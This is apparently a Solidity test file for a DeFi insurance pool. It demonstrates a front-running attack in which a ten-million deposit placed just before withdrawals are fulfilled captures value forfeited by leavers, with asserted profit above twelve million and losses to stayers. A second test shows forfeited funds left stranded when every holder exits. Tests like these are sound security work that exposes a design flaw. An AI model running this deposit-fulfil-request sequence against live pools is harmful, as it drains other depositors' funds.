// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.20;

import {ProtocolTest} from "../protocol/Protocol.sol";
import {Stakes} from "../support/Stakes.sol";
import {IInsurancePool} from "../../contracts/interfaces/IInsurancePool.sol";
import {vm} from "../support/Vm.sol";

/// What those who leave give up by their wait becomes the stayers' in the second in which they are fulfilled, and anyone chooses that
/// second: whoever deposits in front of it takes nearly all, having waited for nothing.
contract FulfilJumpAttackTest is ProtocolTest {
    using Stakes for IInsurancePool;

    address private leaver = address(0x1ea);
    address private fast = address(0xfa57);

    function toMaturity() private {
        elapse(8 days - block.timestamp % 1 days);
    }

    /// Eight million of fees, half of which are insurance's.
    function earn() private {
        setFees(ETH, 0.01e18, 0.01e18);
        for (uint256 k = 0; k < 5; k++) {
            trade(alice, bob, 200_000e18, 200e18);
            trade(bob, alice, 200_000e18, 200e18);
        }
    }

    /// It is fetched within four hours, as the outflow limiter lets it, and released over a week.
    function fetch() private {
        vault.distributeFees();
        for (uint256 k = 0; k < 4; k++) {
            pool.harvest(address(vault));
            elapse(1 hours);
            refreshPrices();
        }
    }

    function test_what_leavers_give_up_goes_to_who_deposits_in_front_of_their_fulfilment() public {
        deposit(alice, 100_000_000 * USD);
        deposit(bob, 100_000_000 * USD);
        uint256 shares = pool.join(token, leaver, INSURANCE);
        elapse(1 days);
        refreshPrices();
        earn();
        // Nearly everybody asks to leave; a million dollars stay.
        pool.request(leaver, shares);
        pool.request(address(this), pool.balanceOf(address(this)) / 100 * 99);
        fetch();
        toMaturity();
        uint256 stays = pool.balanceOf(address(this));
        string memory id = checkpoint();

        // As the design has it: what the leavers' part of the income was is the stayers'.
        pool.fulfil(leaver);
        pool.fulfil(address(this));
        uint256 due = pool.convertToAssets(stays);
        id = restore(id);

        // One transaction in the first second: deposit, fulfil, request. It can as well deposit a second before.
        uint256 mine = pool.join(token, fast, 10_000_000 * USD);
        pool.fulfil(leaver);
        pool.fulfil(address(this));
        pool.request(fast, mine);
        uint256 got = pool.convertToAssets(stays);
        toMaturity();
        uint256 out = pool.fulfil(fast);
        emit log_named_uint("stayers without", due);
        emit log_named_uint("stayers with", got);
        emit log_named_uint("attacker of ten millions", out);
        vm.assertGt(out, 12_000_000 * USD);
        vm.assertGt(due - got, 2_000_000 * USD);
    }

    /// Where all leave, nobody is left whose it could be: it is in no share that there will ever be.
    function test_what_the_last_leavers_give_up_is_nobodys() public {
        deposit(alice, 100_000_000 * USD);
        deposit(bob, 100_000_000 * USD);
        elapse(1 days);
        refreshPrices();
        earn();
        pool.request(address(this), pool.balanceOf(address(this)));
        fetch();
        toMaturity();
        pool.fulfil(address(this));
        vm.assertEq(pool.totalSupply(), 0);
        uint256 left = pool.totalAssets();
        uint256 shares = pool.join(token, fast, 1_000_000 * USD);
        emit log_named_uint("left over", left);
        emit log_named_uint("worth of all shares", pool.convertToAssets(pool.totalSupply()));
        vm.assertGt(left, 2_600_000 * USD);
        vm.assertLe(pool.convertToAssets(shares), 1_000_000 * USD);
        vm.assertEq(shares, pool.totalSupply());
    }

    event log_named_uint(string key, uint256 val);
}
